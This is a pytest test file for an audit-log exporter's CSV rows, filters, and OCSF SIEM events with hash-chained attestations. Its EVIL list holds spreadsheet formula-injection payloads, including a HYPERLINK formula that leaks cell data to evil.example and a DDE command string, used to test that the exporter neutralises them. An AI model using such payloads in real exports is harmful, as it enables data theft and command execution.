"""Formats of the export: tables that calculate nothing, events that a SIEM reads, and a part of the log."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta, timezone
from hashlib import sha256
from typing import Any

import pytest
import rfc8785

from bot.domain.audit import AuditEntry
from bot.runtime.audit.formats import COLUMNS, Filter, Ocsf, as_csv, csv_head
from tests.builders import NOW, TEAM


def entry(n: int = 1, *, code: str = "action.completed", run: str | None = "run_1", **details: object) -> AuditEntry:
    """A sealed entry with these details."""
    scope = run or f"workspace:{TEAM}"
    at = NOW + timedelta(minutes=n)
    body = {
        "v": 2,
        "at": at.isoformat(timespec="microseconds"),
        "team": TEAM,
        "scope": scope,
        "number": n,
        "code": code,
        "actor": "U1",
        "details": details,
    }
    return AuditEntry(
        id=n,
        team=TEAM,
        scope=scope,
        number=n,
        code=code,
        at=f"{at:%Y-%m-%d %H:%M:%S.%f}",
        body=json.dumps(body),
        mac="m",
        key_id="k",
        seq=n,
        prev_hash="p",
        hash="h",
        digest="d",
    )


# Tables -------------------------------------------------------------------------------------------------------------


def cells(one: AuditEntry, personal: Mapping[str, object] | None = None) -> dict[str, str]:
    head, line = csv.reader(io.StringIO(f"{csv_head()}\r\n{as_csv(one, personal)}"))
    return dict(zip(head, line, strict=True))


def test_an_entry_is_a_row() -> None:
    """What most entries about actions have in common stands in columns of its own; the rest is JSON."""
    row = cells(
        entry(2, tool="gmail_send", action="act_1", attempt=1, verdict="allow", rule="level", states=["a", "b"]),
        {"account": "1081"},
    )
    assert list(row) == list(COLUMNS)
    assert row == {
        "at": "2026-11-21T09:32:00.000000+00:00",
        "team": TEAM,
        "code": "action.completed",
        "actor": "U1",
        "run_id": "run_1",
        "number": "2",
        "tool": "gmail_send",
        "action": "act_1",
        "attempt": "1",
        "verdict": "allow",
        "rule": "level",
        "outcome": "b",
        **dict.fromkeys(("step", "level", "run_label", "label", "model", "approved_by", "latency_ms", "objects"), ""),
        **dict.fromkeys(("args_sha256", "evidence_sha256"), ""),
        "seq": "2",
        "hash": "h",
        "digest": "d",
        "details": '{"states": ["a", "b"]}',
        "personal": '{"account": "1081"}',
    }
    known: dict[str, Any] = {
        "step": "s",
        "level": "delegated",
        "run_label": "external",
        "label": "config",
        "model": "gemini",
    }
    known |= {"approved_by": "U1", "latency_ms": "1200", "args_sha256": "a", "evidence_sha256": "e"}
    row = cells(entry(objects=["mail:18c", "event:7"], **known))
    assert {name: row[name] for name in known} == known
    assert (row["objects"], row["outcome"], row["personal"]) == ("mail:18c event:7", "", "")
    assert cells(entry(run=None))["run_id"] == ""


EVIL = [
    ('=HYPERLINK("http://evil.example?x="&A1,"Payroll")', """'=HYPERLINK("http://evil.example?x="&A1,"Payroll")"""),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    *[(text, f"'{text}") for text in ("-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(A1)")],
    *[(f"{sign}1", f"'{sign}1") for sign in "﹦﹢﹣﹫"],
    *[(f"{blank}=1+1", f"'{blank}'=1+1") for blank in "\t\r\n"],
    *[(f"{unseen}=1", f"{unseen}'=1") for unseen in ("  ", "\u200b", "\ufeff \u2060", "\u3164", "\ufe0f", "\x00", '"')],
    ('x;=HYPERLINK("http://evil.example")', """x;'=HYPERLINK("http://evil.example")"""),
    *[(f"x{parts}=1", f"x{parts}'=1") for parts in (",", ", ", ";\u200b", "\t", "\n", "\r\n", ';"', "; \t")],
    ("a;+1;b,@SUM(A1)\n-2", "a;'+1;b,'@SUM(A1)\n'-2"),
]


@pytest.mark.parametrize(("evil", "told"), EVIL)
def test_security_input_61_a_cell_that_is_a_formula_is_neutralised(evil: str, told: str) -> None:
    """A spreadsheet shows it as text, with an apostrophe before it, also where it parts cells in the middle of one. In
    JSON each text is one for itself.
    """
    assert cells(entry(tool=evil))["tool"] == told
    row = cells(entry(about={"texts": [evil], evil: -1, "n": [1, -2, None, True]}), {"ids": {"mail": evil}})
    assert json.loads(row["details"]) == {"about": {"texts": [told], told: -1, "n": [1, -2, None, True]}}
    assert json.loads(row["personal"]) == {"ids": {"mail": told}}


def test_a_cell_that_is_no_formula_stays_as_it_is() -> None:
    """Also one with quotes, commas and lines."""
    plain = 'He said "1 = 1", then\nleft; a@b.example has 2-3'
    row = cells(entry(tool=plain, said=plain))
    assert (row["tool"], json.loads(row["details"])) == (plain, {"said": plain})
    assert cells(entry()._replace(body="not JSON"))["details"] == ""


# Filters ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filter_", "wanted"),
    [
        (Filter(), True),
        (Filter(person="U1"), True),
        (Filter(person="U2"), True),
        (Filter(person="U3"), False),
        (Filter(tool="gmail_send"), True),
        (Filter(tool="gmail"), False),
        (Filter(since=NOW + timedelta(minutes=1)), True),
        (Filter(since=NOW + timedelta(minutes=1, microseconds=1)), False),
        (Filter(until=NOW + timedelta(minutes=1)), False),
        (Filter(until=NOW + timedelta(minutes=1, microseconds=1)), True),
        (Filter(since=(NOW + timedelta(minutes=1)).astimezone(timezone(timedelta(hours=9)))), True),
        (Filter(person="U1", tool="other"), False),
    ],
)
def test_what_is_wanted(filter_: Filter, wanted: bool) -> None:
    """A person acted or asked; a tool is named exactly; times are a half-open span, in any zone."""
    assert filter_.wants(entry(tool="gmail_send"), owner="U2") is wanted


def test_what_is_no_name_is_nobody() -> None:
    """Somebody wrote a list into an entry, where an id belongs."""
    assert not Filter(person="U1").wants(entry()._replace(body='{"actor":["U1"],"owner":{}}'))


def test_a_cell_of_a_list_of_anything_is_a_cell() -> None:
    """Somebody wrote numbers where a name belongs."""
    assert cells(entry(tool=[1, None, "=2"]))["tool"] == "1 None =2"


def test_a_filter_has_a_name() -> None:
    """Nothing is all."""
    assert (Filter().is_all, str(Filter())) == (True, "")
    since = datetime(2026, 11, 1, tzinfo=UTC)
    assert str(Filter(person="U1", since=since)) == "U1::2026-11-01T00:00:00.000000+00:00:"


# Events -------------------------------------------------------------------------------------------------------------


def events(*entries: AuditEntry, filtered: str = "") -> list[dict[str, Any]]:
    ocsf = Ocsf(product_version="0.1.0", filtered=filtered)
    return [json.loads(ocsf.event(one)) for one in entries]


def test_an_entry_is_an_api_activity() -> None:
    """With every attribute that the class requires (OCSF 1.9.0, API Activity)."""
    (event,) = events(entry(3, tool="gmail_send", action="act_1", objects=["mail:18c"]))
    assert (event["class_uid"], event["category_uid"], event["type_uid"]) == (6003, 6, 600303)
    assert event["time"] == 1_795_253_580_000
    assert event["actor"] == {"user": {"uid": "U1"}, "app_name": "countersign"}
    assert event["api"] == {
        "operation": "gmail_send",
        "service": {"name": "countersign"},
        "request": {"uid": "act_1"},
    }
    assert event["src_endpoint"] == {"name": "slack", "uid": TEAM}
    assert event["resources"] == [{"uid": "mail:18c", "type": "mail"}]
    assert event["observables"] == [
        {"name": "resources.uid", "type_id": 10, "type": "Resource UID", "value": "mail:18c"}
    ]
    assert (event["severity_id"], event["status_id"]) == (1, 1)
    assert event["metadata"] == {
        "version": "1.9.0",
        "profiles": ["record_integrity"],
        "product": {"name": "Countersign", "vendor_name": "Countersign", "version": "0.1.0"},
        "uid": f"{TEAM}:run_1:3",
        "event_code": "action.completed",
        "log_name": "audit",
        "original_time": "2026-11-21T09:33:00.000000+00:00",
        "tenant_uid": TEAM,
        "correlation_uid": "run_1",
        "sequence": 3,
    }


@pytest.mark.parametrize(
    ("code", "activity", "status"),
    [
        *(("action.read", 2, 1), ("action.claimed", 3, 1), ("action.unknown", 99, 0), ("action.failed", 99, 2)),
        *(("run.completed", 99, 1), ("connection.refused", 99, 2), ("person.trust_level_refused", 99, 2)),
    ],
)
def test_what_an_event_says_of_a_code(code: str, activity: int, status: int) -> None:
    """Reads and effects are activities of the class; everything else is another, by its code."""
    (event,) = events(entry(code=code))
    assert (event["activity_id"], event["type_uid"], event["status_id"]) == (activity, 600300 + activity, status)
    assert event.get("activity_name") == (code if activity == 99 else None)
    assert event["api"]["operation"] == code


@pytest.mark.parametrize(
    ("code", "status"),
    [
        *((code, 2) for code in ("click.wrong_person", "click.late", "run.unknown_tool", "action.not_done")),
        *((code, 2) for code in ("workspace.rule_refused", "action.preview_failed", "person.turned_away")),
        *((code, 2) for code in ("action.too_many", "run.hard_stop", "connection.not_revoked", "action.no_place")),
        *((code, 1) for code in ("person.disallowed", "run.undone", "memory.forgotten", "action.needs_account")),
    ],
)
def test_what_was_refused_is_no_success(code: str, status: int) -> None:
    """Whichever word its code has for that."""
    (event,) = events(entry(code=code))
    assert event["status_id"] == status


@pytest.mark.parametrize(("outcome", "status"), [("completed", 1), ("failed", 2), ("rejected", 2), ("unknown", 0)])
def test_what_came_of_an_action_is_its_status(outcome: str, status: int) -> None:
    """An attempt that is looked up later may have failed."""
    (event,) = events(entry(code="action.settled", states=["unknown", outcome]))
    assert event["status_id"] == status


def test_what_a_siem_looks_for_is_observable() -> None:
    """Ids and hashes; whom an action reached, and the Message-ID, only where they were opened."""
    one = entry(args_sha256="a", evidence_sha256="e", states=["executing", "completed"])
    (closed,) = events(one)
    assert [(found["name"], found["type_id"], found["value"]) for found in closed["observables"]] == [
        ("unmapped.details.args_sha256", 8, "a"),
        ("unmapped.details.evidence_sha256", 8, "e"),
    ]
    assert (closed["status_detail"], "personal" in closed["unmapped"]) == ("completed", False)
    personal = {"destinations": ["helen@marsh.example", "C1"], "ids": {"message_id": "<1@a>"}}
    opened = json.loads(Ocsf(product_version="0.1.0").event(one, personal))
    assert [(found["name"], found["type"], found["value"]) for found in opened["observables"][2:]] == [
        ("unmapped.personal.destinations", "Email Address", "helen@marsh.example"),
        ("unmapped.personal.destinations", "Other", "C1"),
        ("unmapped.personal.ids.message_id", "Other", "<1@a>"),
    ]
    assert opened["unmapped"]["personal"] == personal


def test_events_are_a_chain() -> None:
    """Each has a fingerprint of itself, in the canonical form, and names the one before it with its fingerprint."""
    first, second = events(entry(1), entry(2))
    for event in (first, second):
        (attestation,) = event["attestation_list"]
        fingerprint = attestation.pop("fingerprint")
        assert fingerprint["value"] == sha256(rfc8785.dumps(event)).hexdigest()
        assert (fingerprint["algorithm_id"], fingerprint["encoding_id"], fingerprint["serialization_id"]) == (3, 1, 2)
        attestation["fingerprint"] = fingerprint
    assert "prev_event" not in first["attestation_list"][0]
    assert second["attestation_list"][0] == {
        "uid": f"{TEAM}:2",
        "chain_uid": TEAM,
        "prev_event": {
            "uid": first["metadata"]["uid"],
            "type_uid": first["type_uid"],
            "fingerprint": first["attestation_list"][0]["fingerprint"],
        },
        "fingerprint": second["attestation_list"][0]["fingerprint"],
    }
    (part,) = events(entry(), filtered="U1:::")
    assert part["attestation_list"][0]["chain_uid"] == f"{TEAM}:U1:::"


@pytest.mark.parametrize("number", [2**53, -(2**53), 10**400, float("inf"), float("nan")])
def test_a_number_without_a_canonical_form_is_a_text(number: float) -> None:
    """Nothing of ours writes one; whoever wrote it into an entry ends no export."""
    (event,) = events(entry(nested=[{"n": number}]))
    assert event["unmapped"]["details"]["nested"] == [{"n": str(number)}]


def test_an_entry_that_cannot_be_read_is_an_event_too() -> None:
    """Whatever somebody made of it: the export ends with no error."""
    (event,) = events(entry()._replace(body="not JSON", seq=None, digest=None, hash=None))
    assert (event["time"], event["actor"]["user"]["uid"], event["unmapped"]["digest"]) == (0, "", "")
    assert "sequence" not in event["metadata"]
